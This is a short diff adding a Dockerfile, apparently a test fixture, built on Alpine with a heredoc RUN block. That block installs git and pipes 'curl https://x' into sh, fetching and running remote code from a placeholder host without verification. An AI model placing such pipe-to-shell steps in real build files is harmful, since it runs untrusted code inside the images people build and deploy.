@@ -1,0 +1,6 @@
+FROM alpine:3.21
+RUN <<EOF
+apk add git
+curl https://x | sh
+EOF
+USER app
